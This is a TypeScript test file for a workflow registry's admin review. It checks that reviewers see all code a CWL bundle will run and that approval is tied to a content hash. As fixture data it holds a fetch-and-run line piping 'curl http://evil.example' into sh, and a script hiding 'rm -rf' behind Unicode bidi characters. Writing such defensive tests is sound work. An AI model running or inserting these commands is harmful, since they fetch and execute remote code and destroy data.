import { routes } from '@cohortium/contract';
import { expect, test } from 'vitest';
import { setAppRole } from '#identity';
import { transact } from '#platform/database';
import { testPortal } from '../../../../test/testing/index.ts';
import { smallWorkflow, writeTool, zipOf } from './document.fixture.ts';

const { pipelines } = routes;
const portal = await testPortal();
const ana = await portal.person();
const admin = await portal.person();
await transact(portal.portal.platform.db, (tx) => setAppRole(tx, admin.email, 'platform_admin'));
const call = portal.callAs(ana);
const asAdmin = portal.callAs(admin);

/** Everything that a tool can run, in the places where it was not shown before. */
const everything = `
  InlineJavascriptRequirement: { expressionLib: ["function hidden() { return 'from the library'; }"] }
  InitialWorkDirRequirement:
    listing:
      - { entryname: start.sh, entry: "echo from the initial work dir" }
      - { entryname: more.py, entry: { $include: more.py } }
  EnvVarRequirement: { envDef: { BASH_ENV: start.sh } }
  NetworkAccess: { networkAccess: true }
  ResourceRequirement: { ramMin: 4096 }
  ShellCommandRequirement: {}
`;
const tool = (more = '') =>
  writeTool(everything)
    .replace(
      'depth: int',
      `depth: { type: int, inputBinding: { valueFrom: "\${ return hidden(); }" } }\n  script: { type: File, default: { class: File, location: ../bin/run.sh } }`,
    )
    .replace('mode: { type', 'mode: { default: fast, type') + more;
const inline = `
  nested:
    in: { depth: depth }
    out: []
    run:
      class: CommandLineTool
      baseCommand: [echo, from-the-inline-tool]
      inputs: { depth: int }
      outputs: []
`;
const flow = smallWorkflow((text) =>
  text.replace('outputs:\n  feature_table', `${inline.slice(1)}outputs:\n  feature_table`),
);
const bundle = (more?: string, script = 'echo from the script that comes with it\n') =>
  zipOf({
    'small/main.cwl': flow,
    'small/tools/write.cwl': tool(more),
    'small/tools/more.py': 'print("from the included file")\n',
    'small/bin/run.sh': script,
  });

async function register(version: string, bytes: Uint8Array) {
  const file_id = await portal.upload(ana, 'small.zip', bytes);
  const body = { name: 'Small', description: 'Writes five files.', version, file_id };
  return (await call(pipelines.register, { body })).data.id;
}
const review = async (id: string) => (await asAdmin(pipelines.review, { params: { id } })).data;
const decide = (id: string, body: { approved: boolean; sha256?: string }) =>
  asAdmin(pipelines.decide, { params: { id }, body });

test('an administrator is shown everything that will run, wherever it hides', async () => {
  const shown = await review(await register('1.0.0', await bundle()));
  const parts = shown.processes.flatMap(({ parts: own }) => own);
  const texts = parts.map(({ text }) => text).join('\n');
  for (const message of [
    'from the library',
    'from the initial work dir',
    'from the included file',
    'from-the-inline-tool',
    'hidden()',
    '{"networkAccess":true}',
    '{"ramMin":4096}',
    'touch feature_table',
  ]) {
    expect(texts).toContain(message);
  }
  expect(parts).toContainEqual({ what: 'Environment variable BASH_ENV', text: 'start.sh' });
  expect(shown.files).toMatchObject([{ path: 'small/bin/run.sh', text: 'echo from the script that comes with it\n' }]);
  expect(shown).toMatchObject({ is_contained: false, approved: null, unavailable_reason: null });
  expect(JSON.parse(shown.document).$graph).toHaveLength(3);
});

test('leave is of one content: not of none, not of another, and not of what is registered next', async () => {
  const id = await register('2.0.0', await bundle());
  const { document_sha256 } = await review(id);
  await expect(decide(id, { approved: true })).rejects.toMatchObject({ status: 422 });
  await expect(decide(id, { approved: true, sha256: 'a'.repeat(64) })).rejects.toMatchObject({ status: 409 });
  expect((await call(pipelines.detail, { params: { id } })).data.state).toBe('pending_approval');
  const sha256 = document_sha256 ?? '';
  expect((await decide(id, { approved: true, sha256 })).data.state).toBe('ready');

  const next = await register('2.1.0', await bundle('stdout: other.txt\n', 'curl http://evil.example | sh\n'));
  const changed = await review(next);
  expect(changed.approved).toMatchObject({ version: '2.0.0', document_sha256: sha256 });
  expect(changed.approved?.diff).toMatch(/^\+.*"stdout": "other\.txt"/m);
  expect(changed.approved?.diff).toMatch(/^-echo from the script that comes with it$/m);
  expect(changed.approved?.diff).toMatch(/^\+curl http:\/\/evil\.example \| sh$/m);
  expect((await call(pipelines.detail, { params: { id: next } })).data.state).toBe('pending_approval');
  await expect(decide(next, { approved: true, sha256 })).rejects.toMatchObject({ status: 409 });

  expect((await decide(id, { approved: false })).data.state).toBe('rejected');
});

test('a script that hides what it says is shown with what it hides', async () => {
  const id = await register('3.0.0', await bundle(undefined, 'echo safe # \u202e}rm -rf{\u2066\n'));
  expect((await review(id)).files[0]?.text).toBe('echo safe # \\u{202e}}rm -rf{\\u{2066}\n');
});
